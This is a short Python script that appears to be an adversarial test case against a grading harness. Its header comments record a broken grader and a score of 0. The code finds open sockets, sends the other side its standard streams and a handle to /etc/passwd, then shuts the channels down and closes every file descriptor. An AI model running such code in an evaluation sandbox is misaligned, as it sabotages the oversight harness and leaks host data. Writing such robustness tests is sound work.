# Writes to, closes and replaces every open file, and sends descriptors of its own to the other side.
# promise: no dead grader
# status: broke
# score: 0
# reads: ended its own process
# %% last
import os
import socket
import stat

for descriptor in range(256):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            channel = socket.socket(fileno=os.dup(descriptor))
            socket.send_fds(channel, [b"\x00"], [0, 1, 2, os.open("/etc/passwd", os.O_RDONLY)] * 50)
            channel.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
os.closerange(0, 4096)
